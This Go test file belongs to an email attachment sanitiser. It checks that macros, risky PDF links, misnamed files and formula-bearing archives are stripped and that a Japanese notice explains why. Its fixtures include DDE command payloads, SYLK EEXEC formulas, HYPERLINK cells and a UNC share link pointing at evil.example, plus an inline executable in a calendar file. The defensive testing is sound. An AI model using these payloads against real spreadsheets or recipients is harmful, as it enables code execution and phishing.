package sanitize

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/xml"
	"io"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/japanese"
	"golang.org/x/text/encoding/unicode"

	"mugai/config"
	"mugai/sanitize/filetype"
)

// TestBlocksKeeping: what a file holds is the reason given before what
// could not be read of it, whatever order the classifier found them in.
func TestBlocksKeeping(t *testing.T) {
	for _, tt := range []struct {
		findings []string
		want     string
	}{
		{nil, ""},
		{[]string{"zip: nested archive inner.zip"}, ""},
		{[]string{"office: macros"}, "office document with macros"},
		{[]string{"zip: too many entries", "office: macros"}, "office document with macros"},
		{[]string{"archive: limit exceeded", "archive: active content entry page.html"}, "archive holds HTML or SVG, which runs scripts when opened"},
		{[]string{"archive: limit exceeded", "archive: mail, calendar or contact entry mail/invoice.eml"}, messageEntryReason},
		{[]string{"archive: entry written outside its folder ../../Startup/a.lnk.txt"}, escapingEntryReason},
		{[]string{"archive: entry written outside its folder ../macros/a.txt"}, escapingEntryReason},
		{[]string{"archive: link entry docs -> README"}, linkEntryReason},
		{[]string{"office: formulas not inspected xl/worksheets/sheet2.xml: UTF-16", "office: formula that runs or fetches (EXEC) in macros.zip/a.xlsx/xl/workbook.xml"}, runningFormulaReason},
		{[]string{"archive: too many entries (more than 10)", "archive: link entry macros -> /etc"}, linkEntryReason},
		{[]string{"pdf: not fully inspected: a stream mugai cannot read to the end", "pdf: javascript"}, "document with active or embedded content"},
		{[]string{"zip: corrupt entry", "zip: encrypted entry secret.docx"}, "encrypted content cannot be inspected"},
		{[]string{"zip: nested archive a.zip", "zip: corrupt entry"}, "archive could not be fully inspected"},
		{[]string{"ole: odd stream"}, "content needs inspection (ole)"},
		{[]string{"pdf: link target not inspected", "pdf: link to a file (file:)"}, "document links to a file (file:)"},
		{[]string{"pdf: link to a program (ms-word:) docs/a.pdf"}, "document links to a program (ms-word:)"},
		{[]string{"pdf: link target not inspected", "pdf: opens another file (external stream data) docs/a.pdf"}, "document opens another file (external stream data)"},
		{[]string{"pdf: remote go-to action"}, "document opens another file (remote go-to action)"},
		{[]string{"pdf: thread action (may open another file) docs/a.pdf"}, "document opens another file (thread action)"},
		{[]string{"office: link to a network share (UNC path) in word/_rels/document.xml.rels"}, "document links to a network share (UNC path)"},
		{[]string{"office: relationships not inspected (DTD) in word/_rels/document.xml.rels"}, "document could not be fully inspected"},
		{[]string{filetype.OOXMLNoMainPart + " macros/a.xlsx: xl/workbook.bin is application/vnd.ms-excel.sheet.binary.macroenabled.main"}, "document could not be fully inspected"},
		{[]string{filetype.OOXMLTypesNotInspected + " macros/a.docx: [Content_Types].xml: DTD"}, "document could not be fully inspected"},
		{[]string{"office: external reference image in word/_rels/document.xml.rels"}, "document with active or embedded content"},
		{[]string{"office: fields not inspected word/macros.xml: DTD"}, "document could not be fully inspected"},
		{[]string{"office: external reference includepicture field in word/macros.xml"}, "document with active or embedded content"},
		{[]string{filetype.ODFMacro + " office:event-listeners in content.xml"}, "office document with macros"},
		{[]string{filetype.OOXMLPictureScript + " svg:script in word/media/image1.png"}, "office document with macros"},
		{[]string{filetype.ODFLinked + " draw:image xlink:href (a network share) in Object macro/content.xml"}, linkedContentReason},
		{[]string{filetype.ODFNotInspected + " content.xml: DTD", filetype.ODFMacro + " script:event-listener in content.xml"}, "office document with macros"},
		{[]string{filetype.ODFNotInspected + " (encrypted)", "office: encrypted document"}, "encrypted content cannot be inspected"},
	} {
		if got := blocksKeeping(tt.findings); got != tt.want {
			t.Errorf("blocksKeeping(%q) = %q, want %q", tt.findings, got, tt.want)
		}
	}
}

// TestLinksReasonInNotice: the notice says which link, or what that
// opens another file, removed a PDF, for every reason the classifier's
// findings give, in words the link rewriting leaves as they are.
func TestLinksReasonInNotice(t *testing.T) {
	for _, tt := range []struct{ finding, jp string }{
		{"pdf: link to a file (file:)", "ファイルへのリンク（file URL）を含む文書のため"},
		{"pdf: link to a network share (UNC path)", "共有フォルダへのリンク（UNCパス）を含む文書のため"},
		{"pdf: link to a file (drive path)", "ファイルへのリンク（ドライブのパス）を含む文書のため"},
		{"pdf: link to a relative target (no scheme: opened as a file)", "相対指定のリンク（ファイルとして開かれる）を含む文書のため"},
		{"pdf: link to a mail address attaching a file (mailto: with attach)", "ファイルを添付させるメールのリンク（mailtoのattach指定）を含む文書のため"},
		{"pdf: link to a program (ms-word:) docs/a.pdf", "他のプログラムを開くリンク（ms-word）を含む文書のため"},
		{"pdf: link to a program (other schemes)", "他のプログラムを開くリンク（その他のスキーム）を含む文書のため"},
		// What in a PDF opens another file.
		{"pdf: opens another file (external stream data)", "外部のファイルからデータを読み込む指定（外部ストリーム）を含む文書のため"},
		{"pdf: opens another file (reference XObject) docs/a.pdf", "他のPDFのページを表示する指定（参照XObject）を含む文書のため"},
		{"pdf: remote go-to action", "他のPDFを開く指定（リモートGoTo）を含む文書のため"},
		{"pdf: import data action", "他のファイルからフォームのデータを読み込む指定（ImportData）を含む文書のため"},
		{"pdf: thread action (may open another file)", "他のファイルの記事を開く指定（スレッド）を含む文書のため"},
		{"pdf: movie or sound (may play another file)", "ファイルを再生する指定（ムービー・サウンド）を含む文書のため"},
	} {
		r := blocksKeeping([]string{tt.finding})
		if got := jpReason(&leaf{part: Part{Reason: r}}); got != tt.jp {
			t.Errorf("%q: reason %q, notice %q, want %q", tt.finding, r, got, tt.jp)
		}
		if got, _ := rewriteLinks(tt.jp, "defang"); got != tt.jp {
			t.Errorf("%q: rewritten as %q", tt.jp, got)
		}
	}
}

// TestKeptPDFOpensOtherFile: under a rule that keeps PDFs, one whose
// page the reader would fetch from a share (a stream's data in another
// file, a reference XObject) is stripped, the report, the reason and the
// notice saying what was found; the same flyer without it is kept. The
// files are filetype's samples (LibreOffice Calc, qpdf; see
// filetype.TestPDFOpensOtherFile).
func TestKeptPDFOpensOtherFile(t *testing.T) {
	read := func(name string) []byte {
		b, err := os.ReadFile(filepath.Join("filetype", "testdata", "samples", name))
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	msg := withAttachments(
		attached{"notice.pdf", "application/pdf", read("notice.pdf")},
		attached{"external.pdf", "application/pdf", read("external-stream.pdf")},
		attached{"reference.pdf", "application/pdf", read("reference-xobject.pdf")},
	)
	rep, out := sanitizeKeepingPDFs(t, msg)
	want := []struct{ decision, reason, finding string }{
		{DecisionKeep, "allowed by a keep rule; 2 links left clickable", ""},
		{DecisionStrip, "document opens another file (external stream data)", "pdf: opens another file (external stream data)"},
		{DecisionStrip, "document opens another file (reference XObject)", "pdf: opens another file (reference XObject)"},
	}
	for i, w := range want {
		p := rep.Parts[i+1]
		if p.Decision != w.decision || p.Reason != w.reason {
			t.Errorf("%s: %s (%s), want %s (%s)", p.Filename, p.Decision, p.Reason, w.decision, w.reason)
		}
		if w.finding != "" && !slices.Contains(rep.Findings, Finding{Path: p.Path, Kind: "attachment", Detail: w.finding}) {
			t.Errorf("%s: findings %+v lack %q", p.Filename, rep.Findings, w.finding)
		}
	}
	text := decodedText(t, out)
	for _, line := range []string{
		"    - external.pdf (",
		"… 外部のファイルからデータを読み込む指定（外部ストリーム）を含む文書のため",
		"    - reference.pdf (",
		"… 他のPDFのページを表示する指定（参照XObject）を含む文書のため",
	} {
		if !strings.Contains(text, line) {
			t.Errorf("notice lacks %q:\n%s", line, text)
		}
	}
}

// A PDF the policy keeps is delivered as it is, its links clickable: the
// report says how many (one per target), and the notice tells the
// reader, so the promise that links are made non-clickable is not
// broken quietly. A PDF whose link opens a file or a share is removed,
// as one with a launch or remote go-to action, with a reason that says
// what was refused; a phone number and a mail address are web-like.
func TestKeptPDFLinks(t *testing.T) {
	pdf := func(uris ...string) []byte {
		var annots []string
		for _, u := range uris {
			annots = append(annots, "<< /Subtype /Link /A << /S /URI /URI ("+u+") >> >>")
		}
		return []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R /Annots [" + strings.Join(annots, " ") + "] >>\nendobj\n" +
			"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
	}
	msg := withAttachments(
		attached{"links.pdf", "application/pdf", pdf("https://www.city.example.lg.jp/a", "https://www.city.example.lg.jp/a", "mailto:kikaku@city.example.lg.jp")},
		attached{"plain.pdf", "application/pdf", pdf()},
		attached{"share.pdf", "application/pdf", pdf(`\\\\evil.example\\share\\x.pdf`)},
		// A municipal flyer: a phone number and a desk's mail address.
		attached{"flyer.pdf", "application/pdf", pdf("tel:+81-3-1234-5678", "mailto:attach-desk@city.example.lg.jp")},
		attached{"relative.pdf", "application/pdf", pdf("www.city.example.lg.jp/event.html")},
	)
	rep, out := sanitizeKeepingPDFs(t, msg)
	want := []struct{ decision, reason string }{
		{DecisionKeep, "allowed by a keep rule; 2 links left clickable"},
		{DecisionKeep, "allowed by a keep rule"},
		{DecisionStrip, "document links to a network share (UNC path)"},
		{DecisionKeep, "allowed by a keep rule; 2 links left clickable"},
		{DecisionStrip, "document links to a relative target (no scheme: opened as a file)"},
	}
	for i, w := range want {
		p := rep.Parts[i+1]
		if p.Decision != w.decision || p.Reason != w.reason {
			t.Errorf("%s: %s (%s), want %s (%s)", p.Filename, p.Decision, p.Reason, w.decision, w.reason)
		}
	}
	var links []Finding
	for _, f := range rep.Findings {
		if f.Kind == "pdf-links" {
			links = append(links, f)
		}
	}
	if len(links) != 2 || links[0] != (Finding{Path: "2", Kind: "pdf-links", Detail: "2 links left clickable"}) ||
		links[1] != (Finding{Path: "5", Kind: "pdf-links", Detail: "2 links left clickable"}) {
		t.Errorf("pdf-links findings %+v, want one for parts 2 and 5", links)
	}
	text := decodedText(t, out)
	for _, line := range []string{
		"・許可された添付ファイル（3件）はそのまま添付しています。",
		"・次の添付ファイル中のリンクはクリックできる形のままです（無効化していません）。送信元を確かめてから開いてください:",
		"    - links.pdf (" + humanSize(int64(len(pdf("https://www.city.example.lg.jp/a", "https://www.city.example.lg.jp/a", "mailto:kikaku@city.example.lg.jp")))) + ") … リンク 2件",
		"    - share.pdf (",
		"… 共有フォルダへのリンク（UNCパス）を含む文書のため",
		"    - flyer.pdf (",
		"    - relative.pdf (",
		"… 相対指定のリンク（ファイルとして開かれる）を含む文書のため",
		"3 attachment(s) kept; links left clickable in 2 kept file(s)",
	} {
		if !strings.Contains(text, line) {
			t.Errorf("notice lacks %q:\n%s", line, text)
		}
	}
}

// xlsxFile is a minimal OOXML workbook.
func xlsxFile(t *testing.T) []byte {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for name, data := range map[string]string{
		"[Content_Types].xml": `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/></Types>`,
		"xl/workbook.xml":     `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"/>`,
	} {
		w, err := z.Create(name)
		if err != nil {
			t.Fatal(err)
		}
		w.Write([]byte(data))
	}
	if err := z.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// A keep rule that lists several formats keeps a file only under a name
// its content agrees with: a workbook named .pdf opens in the PDF reader
// (and a PDF named .xlsx in Excel), a program that reads bytes mugai
// inspected as something else; a name of the content's family (a PNG
// named .jpg, a workbook named .xls) opens in the same program, which
// reads it by content.
func TestKeepRulePairsNameAndContent(t *testing.T) {
	const sheet = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
	pdf := []byte("%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
	png := []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x06\x00\x00\x00\x1f\x15\xc4\x89\x00\x00\x00\rIDATx\x9cc\xf8\x0f\x00\x00\x01\x01\x00\x05\x18\xd8N\x00\x00\x00\x00IEND\xaeB`\x82")
	mismatch := func(ext, content string) string {
		return "its name (" + ext + ") does not match its content (" + content + ")"
	}
	for _, tt := range []struct {
		name     string
		file     attached
		decision string
		reason   string
	}{
		{"workbook as .xlsx", attached{"集計.xlsx", sheet, xlsxFile(t)}, DecisionKeep, "allowed by a keep rule"},
		{"PDF as .pdf", attached{"案内.pdf", "application/pdf", pdf}, DecisionKeep, "allowed by a keep rule"},
		{"workbook as .pdf", attached{"案内.pdf", "application/pdf", xlsxFile(t)}, DecisionStrip, mismatch(".pdf", sheet)},
		{"PDF as .xlsx", attached{"集計.xlsx", sheet, pdf}, DecisionStrip, mismatch(".xlsx", "application/pdf")},
		{"PNG as .txt", attached{"memo.txt", "text/plain", png}, DecisionStrip, mismatch(".txt", "image/png")},
		{"PNG as .png", attached{"map.png", "image/png", png}, DecisionKeep, "allowed by a keep rule"},
		// A name of the content's family: the same program reads it.
		{"PNG as .jpg", attached{"IMG_0001.jpg", "image/jpeg", png}, DecisionKeep, "allowed by a keep rule"},
		{"workbook as .xls", attached{"集計.xls", "application/vnd.ms-excel", xlsxFile(t)}, DecisionKeep, "allowed by a keep rule"},
		// application/vnd.ms-excel is the type of a workbook as much as
		// Windows' type for a CSV: a workbook so declared is no CSV.
		{"workbook declared as Excel", attached{"集計.xlsx", "application/vnd.ms-excel", xlsxFile(t)}, DecisionKeep, "allowed by a keep rule"},
		{"PNG as .pdf", attached{"案内.pdf", "application/pdf", png}, DecisionStrip, mismatch(".pdf", "image/png")},
		// An icon's images are PNG or BMP: a favicon.ico is often a PNG.
		{"PNG as .ico", attached{"favicon.ico", "image/x-icon", png}, DecisionKeep, "allowed by a keep rule"},
		// Text under a text name, whatever it is declared as.
		{"text as .csv, declared as an image", attached{"list.csv", "image/png", []byte("a,b\r\n1,2\r\n")}, DecisionKeep, "allowed by a keep rule"},
		// SYLK is text that Excel runs the formulas of: no rule keeps it.
		{"SYLK as .slk", attached{"集計.slk", "text/plain", []byte("ID;P\r\nC;Y1;X1;K\"x\";E=HYPERLINK(\"http://evil.example/\")\r\nE\r\n")}, DecisionStrip, sylkReason},
		// Excel opens SYLK as such under a CSV name too: its E fields
		// are formulas that start with no sign (NVISO's EXEC samples).
		{"SYLK as .csv", attached{"集計.csv", "text/csv", []byte("ID;P\r\nC;Y1;X1;K0;EEXEC(\"calc\")\r\nE\r\n")}, DecisionStrip, sylkReason},
		{"header starting with ID", attached{"名簿.csv", "text/csv", []byte("ID,氏名\r\n1,鈴木\r\n")}, DecisionKeep, "allowed by a keep rule"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{
				{Extensions: []string{".pdf", ".xlsx", ".xls", ".png", ".jpg", ".ico"}, Types: []string{"application/pdf", sheet, "image/png"}},
				{Extensions: []string{".txt", ".csv", ".slk"}, Types: []string{"text/plain", "text/csv", "image/png"}},
			}
			msg := withAttachments(tt.file)
			rep, out := rebuilt(t, msg, pol)
			p := rep.Parts[1]
			if p.Decision != tt.decision || p.Reason != tt.reason {
				t.Errorf("%s (sniffed %s): %s (%s), want %s (%s)", p.Filename, p.SniffedType, p.Decision, p.Reason, tt.decision, tt.reason)
			}
			why := "… ファイル名の拡張子と中身の形式が一致しないため"
			if tt.reason == sylkReason {
				why = "… 開くと数式やマクロが実行される表計算データ（SYLK）のため"
			}
			if tt.decision == DecisionStrip && !strings.Contains(decodedText(t, out), why) {
				t.Errorf("notice does not say why:\n%s", decodedText(t, out))
			}
		})
	}
}

// TestKeepRuleWithoutTypes: a keep rule that names extensions and no
// type keeps files of those names whose type mugai tells, not content
// it cannot identify, which every name fits: random bytes named
// data.txt were kept by "extensions: [.txt]" (a YAML slip, "- types:"
// as a rule of its own, makes such a rule). A rule that lists
// application/octet-stream keeps them.
func TestKeepRuleWithoutTypes(t *testing.T) {
	noise := make([]byte, 3000)
	for i := range noise {
		noise[i] = byte(i*131 + i/7)
	}
	for _, tt := range []struct {
		name     string
		rule     config.KeepRule
		file     attached
		decision string
	}{
		{"text by extension", config.KeepRule{Extensions: []string{".txt"}}, attached{"memo.txt", "text/plain", []byte("会議は3時からです。\r\n")}, DecisionKeep},
		{"noise by extension", config.KeepRule{Extensions: []string{".txt"}}, attached{"data.txt", "text/plain", noise}, DecisionStrip},
		{"noise by extension and octet-stream", config.KeepRule{Extensions: []string{".dat"}, Types: []string{"application/octet-stream"}}, attached{"data.dat", "application/octet-stream", noise}, DecisionKeep},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{tt.rule}
			rep, _ := rebuilt(t, withAttachments(tt.file), pol)
			if p := rep.Parts[1]; p.Decision != tt.decision {
				t.Errorf("%s (sniffed %s): %s (%s), want %s", p.Filename, p.SniffedType, p.Decision, p.Reason, tt.decision)
			}
		})
	}
}

// zipDecision rebuilds a message with data.zip attached under pol and
// checks the archive's decision: kept when reason is "", else stripped
// for reason. It returns the rebuilt message.
func zipDecision(t *testing.T, zip []byte, pol config.Policy, reason string) []byte {
	t.Helper()
	rep, out := rebuilt(t, withAttachments(attached{"data.zip", "application/zip", zip}), pol)
	p := rep.Parts[1]
	want, wantReason := DecisionStrip, reason
	if reason == "" {
		want, wantReason = DecisionKeep, "allowed by a keep rule"
	}
	if p.Decision != want || p.Reason != wantReason {
		t.Errorf("%s (%s), want %s (%s); findings %+v", p.Decision, p.Reason, want, wantReason, rep.Findings)
	}
	return out
}

// TestKeptArchiveMembers: a policy that keeps ZIPs keeps one only when
// it would keep each file in it on its own (by name and content, as
// attached): a policy keeping ZIPs and PDFs and stripping workbooks
// delivered the workbooks of a ZIP. A Mac's folder metadata in a ZIP
// (__MACOSX/._x.pdf, which is no PDF) is not a file of the sender's.
func TestKeptArchiveMembers(t *testing.T) {
	pdf := "%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
	appleDouble := "\x00\x05\x16\x07\x00\x02\x00\x00Mac OS X        \x00\x02"
	zipOf := func(files ...[2]string) []byte {
		var b bytes.Buffer
		zw := zip.NewWriter(&b)
		for _, f := range files {
			w, err := zw.Create(f[0])
			if err != nil {
				t.Fatal(err)
			}
			io.WriteString(w, f[1])
		}
		if err := zw.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	xlsx := string(xlsxFile(t))
	for _, tt := range []struct {
		name   string
		zip    []byte
		reason string // "" kept
	}{
		{"PDFs", zipOf([2]string{"docs/", ""}, [2]string{"docs/案内.pdf", pdf}, [2]string{"empty.pdf", ""}), ""},
		{"a workbook", zipOf([2]string{"案内.pdf", pdf}, [2]string{"予算.xlsx", xlsx}), memberNotKeptReason + " (予算.xlsx)"},
		{"a workbook in a nested ZIP", zipOf([2]string{"inner.zip", string(zipOf([2]string{"予算.xlsx", xlsx}))}), memberNotKeptReason + " (inner.zip/予算.xlsx)"},
		{"a file without extension", zipOf([2]string{"README", "read me\n"}), memberNotKeptReason + " (README)"},
		{"a Mac's metadata", zipOf([2]string{"案内.pdf", pdf}, [2]string{"__MACOSX/._案内.pdf", appleDouble}, [2]string{".DS_Store", "\x00\x00\x00\x01Bud1\x00"}), ""},
		{"metadata in name only", zipOf([2]string{"案内.pdf", pdf}, [2]string{"._予算.xlsx", xlsx}), memberNotKeptReason + " (._予算.xlsx)"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".zip"}, Types: []string{"application/zip"}},
				{Extensions: []string{".pdf"}, Types: []string{"application/pdf"}}}
			out := zipDecision(t, tt.zip, pol, tt.reason)
			if tt.reason != "" {
				// The name's links neutralised, as the notice's.
				name, _ := rewriteLinks(strings.TrimSuffix(strings.TrimPrefix(tt.reason, memberNotKeptReason+" ("), ")"), "defang")
				jp := "圧縮ファイル内に、ポリシーで許可されていない種類のファイル（" + name + "）があるため"
				if text := decodedText(t, out); !strings.Contains(text, jp) {
					t.Errorf("notice lacks %q:\n%s", jp, text)
				}
			}
		})
	}
}

// TestKeptArchiveMemberNames: under a rule that keeps ZIPs, an archive
// is kept only when each file in it is named as what it holds, as an
// attached file must be: unpacked, a workbook named .pdf opens in the
// PDF reader (which takes a PDF from anywhere in its first KiB), not
// the program whose format mugai inspected; an executable under any
// name is stripped as such. The ZIPs were made with Info-ZIP's zip from
// LibreOffice Calc files (notice.pdf, a workbook) and filetype's
// samples (dot.png, tiny-pe.exe).
func TestKeptArchiveMemberNames(t *testing.T) {
	for _, tt := range []struct {
		file, decision, reason string
	}{
		{"docs.zip", DecisionKeep, "allowed by a keep rule; 2 links left clickable"},
		{"workbook-as-pdf.zip", DecisionStrip, "archive holds a file whose name does not match its content"},
		{"image-as-pdf.zip", DecisionStrip, "archive holds a file whose name does not match its content"},
		{"exe-as-pdf.zip", DecisionStrip, "executable or script"},
	} {
		t.Run(tt.file, func(t *testing.T) {
			b, err := os.ReadFile(filepath.Join("filetype", "testdata", "samples", tt.file))
			if err != nil {
				t.Fatal(err)
			}
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".zip"}, Types: []string{"application/zip"}},
				// What docs.zip holds, which the policy must keep too.
				{Extensions: []string{".pdf", ".xlsx", ".png"}, Types: []string{"application/pdf", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "image/png"}}}
			msg := withAttachments(attached{tt.file, "application/zip", b})
			rep, out := rebuilt(t, msg, pol)
			p := rep.Parts[1]
			if p.Decision != tt.decision || p.Reason != tt.reason {
				t.Errorf("%s: %s (%s), want %s (%s); findings %+v", p.Filename, p.Decision, p.Reason, tt.decision, tt.reason, rep.Findings)
			}
			const jp = "圧縮ファイル内に、拡張子と中身の形式が一致しないファイルがあるため"
			if text := decodedText(t, out); strings.Contains(text, jp) != (tt.reason == misnamedEntryReason) {
				t.Errorf("notice, for %q:\n%s", tt.reason, text)
			}
		})
	}
}

// sanitizeKeepingPDFs rebuilds msg under the default policy with a rule
// that keeps PDFs.
func sanitizeKeepingPDFs(t *testing.T, msg string) (*Report, []byte) {
	t.Helper()
	pol := defaultPolicy(t)
	pol.Attachments.Keep = append(pol.Attachments.Keep, config.KeepRule{Extensions: []string{".pdf"}, Types: []string{"application/pdf"}})
	return rebuilt(t, msg, pol)
}

// rebuilt sanitises msg under pol; it must be rebuilt.
// stripOne sanitises a message with one attachment under the default
// policy with keep as its keep rules: the attachment's part, the report
// and the rebuilt message.
func stripOne(t *testing.T, a attached, keep ...config.KeepRule) (Part, *Report, []byte) {
	t.Helper()
	pol := defaultPolicy(t)
	pol.Attachments.Keep = keep
	rep, out := rebuilt(t, withAttachments(a), pol)
	return rep.Parts[1], rep, out
}

// wantStripped checks that an attachment was stripped for reason.
func wantStripped(t *testing.T, p Part, rep *Report, reason string) {
	t.Helper()
	if p.Decision != DecisionStrip || p.Reason != reason {
		t.Errorf("%s: %s (%s), want stripped: %s; findings %q", p.Filename, p.Decision, p.Reason, reason, rep.Findings)
	}
}

func rebuilt(t *testing.T, msg string, pol config.Policy) (*Report, []byte) {
	t.Helper()
	var out bytes.Buffer
	rep, err := Message(&out, strings.NewReader(msg), int64(len(msg)), Options{Policy: pol})
	if err != nil || rep.Verdict != Rebuilt {
		t.Fatalf("%v %+v", err, rep)
	}
	return rep, out.Bytes()
}

// TestKeptArchiveSpreadsheet: under a rule that keeps ZIPs, a CSV or TSV
// in the archive is read as an attached one would be, since unpacked it
// opens in the spreadsheet: one with a field the spreadsheet would run as
// a formula (a live =HYPERLINK, DDE) cannot be rewritten inside the
// archive, so the archive is not kept and the notice says why. Numbers
// with signs, and formulas in a file no spreadsheet opens (.txt), are
// no reason.
func TestKeptArchiveSpreadsheet(t *testing.T) {
	sjis := func(s string) string {
		b, err := japanese.ShiftJIS.NewEncoder().String(s)
		if err != nil {
			t.Fatal(err)
		}
		return b
	}
	type member struct {
		name, data string
		stored     bool
	}
	zipOf := func(ms ...member) []byte {
		var b bytes.Buffer
		zw := zip.NewWriter(&b)
		for _, m := range ms {
			h := &zip.FileHeader{Name: m.name, Method: zip.Deflate}
			if m.stored {
				h.Method = zip.Store
			}
			w, err := zw.CreateHeader(h)
			if err != nil {
				t.Fatal(err)
			}
			io.WriteString(w, m.data)
		}
		if err := zw.Close(); err != nil {
			t.Fatal(err)
		}
		return b.Bytes()
	}
	clean := sjis("氏名,金額,備考\r\n山田太郎,-1200,返金\r\n佐藤花子,+500,\"確認済み、5%増\"\r\n")
	link := sjis("氏名,連絡先\r\n山田太郎,\"=HYPERLINK(\"\"http://evil.example/\"\",\"\"詳細\"\")\"\r\n")
	dde := "a\tb\r\n1\t=cmd|' /C calc'!A0\r\n"
	latin, err := charmap.Windows1252.NewEncoder().String("Nom,Prénom,Société,Réunion à Genève café crème élève\r\n")
	if err != nil {
		t.Fatal(err)
	}
	for _, tt := range []struct {
		name   string
		zip    []byte
		reason string // "" kept
	}{
		{"clean CSV", zipOf(member{name: "名簿.csv", data: clean}), ""},
		{"formulas in a .txt", zipOf(member{name: "memo.txt", data: link}), ""},
		{"HYPERLINK in a CSV", zipOf(member{name: "名簿.csv", data: link}), formulaEntryReason},
		{"HYPERLINK in a stored CSV", zipOf(member{name: "a.txt", data: "x"}, member{name: "list.csv", data: link, stored: true}), formulaEntryReason},
		{"DDE in a TSV", zipOf(member{name: "data.tsv", data: dde}), formulaEntryReason},
		{"DDE in a .tab", zipOf(member{name: "data.tab", data: dde}), formulaEntryReason},
		{"SYLK", zipOf(member{name: "集計.slk", data: "ID;P\r\nC;Y1;X1;K\"x\";E=HYPERLINK(\"http://evil.example/\")\r\nE\r\n"}), formulaEntryReason},
		{"SYLK named .csv", zipOf(member{name: "集計.csv", data: "ID;P\r\nC;Y1;X1;K0;EEXEC(\"calc\")\r\nE\r\n"}), formulaEntryReason},
		{"in a nested ZIP", zipOf(member{name: "inner.zip", data: string(zipOf(member{name: "名簿.csv", data: link}))}), formulaEntryReason},
		// Calc would read the lines after it afresh.
		{"CSV ending inside a quoted field", zipOf(member{name: "a.csv", data: "a,\"b\r\nc\r\n"}), "archive could not be fully inspected"},
		// A spreadsheet opens them as data all the same, as an attached
		// CSV that is not text.
		{"CSV with a control byte", zipOf(member{name: "a.csv", data: link + "\x00\x01"}), "archive could not be fully inspected"},
		{"CSV with a control byte after 4 KiB", zipOf(member{name: "a.csv", data: clean + strings.Repeat("1,2\r\n", 1000) + "x,\x00=cmd|' /C calc'!A0\r\n"}), "archive could not be fully inspected"},
		// 81 81 is "＝" to Japanese Excel, a character of the
		// windows-1252 the French first line makes the file read in.
		{"CSV hiding a Shift_JIS sign", zipOf(member{name: "a.csv", data: latin + "x,\x81\x81cmd|' /C calc'!A0\r\n"}), "archive could not be fully inspected"},
		{"CSV sniffed as a PDF", zipOf(member{name: "a.tsv", data: "=HYPERLINK(\"http://evil.example/\")\t%PDF-1.4\r\n"}), "archive could not be fully inspected"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			pol := defaultPolicy(t)
			pol.Attachments.Keep = []config.KeepRule{{Extensions: []string{".zip"}, Types: []string{"application/zip"}},
				{Extensions: []string{".csv", ".tsv", ".txt"}, Types: []string{"text/plain"}}}
			out := zipDecision(t, tt.zip, pol, tt.reason)
			const jp = "… 圧縮ファイル内の表計算データ（CSV・TSV・SYLK）に、表計算ソフトで開くと数式として実行される欄があるため"
			if text := decodedText(t, out); strings.Contains(text, jp) != (tt.reason == formulaEntryReason) {
				t.Errorf("notice, for %q:\n%s", tt.reason, text)
			}
		})
	}
}

// TestCalendarAndContactNotKept: a calendar (.ics) or contact file (.vcf)
// is text, but the program that opens it unfolds its lines (RFC 5545
// 3.1, RFC 6350 3.2) and decodes what they hold: a URL folded across two
// lines, an executable inline in an ATTACH property, a base64 or
// quoted-printable value came through a rule that keeps them, since a
// kept text file is neutralised line by line as written (red team). No
// rule keeps one; a text file named .txt opens as text, whatever it holds.
// A calendar's events are written in the body text instead (its DESCRIPTION
// and attachments are not), and its reason says so.
func TestCalendarAndContactNotKept(t *testing.T) {
	const folded = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:会議\r\nDESCRIPTION:資料は htt\r\n ps://evil.example/login\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
	const inline = "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:会議\r\nATTACH;ENCODING=BASE64;VALUE=BINARY;X-FILENAME=agenda.exe:TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAA\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"
	const card = "BEGIN:VCARD\r\nVERSION:2.1\r\nFN:Evil\r\nNOTE;ENCODING=QUOTED-PRINTABLE:https=3A//evil=2Eexample/login\r\nEND:VCARD\r\n"
	for _, tt := range []struct {
		name     string
		file     attached
		decision string
	}{
		{"folded URL in .ics", attached{"invite.ics", "text/calendar", []byte(folded)}, DecisionStrip},
		{"inline executable in .ics", attached{"invite.ics", "text/calendar", []byte(inline)}, DecisionStrip},
		{"calendar declared so, named .txt too", attached{"invite.txt", "text/calendar", []byte(folded)}, DecisionStrip},
		{"quoted-printable URL in .vcf", attached{"card.vcf", "text/x-vcard", []byte(card)}, DecisionStrip},
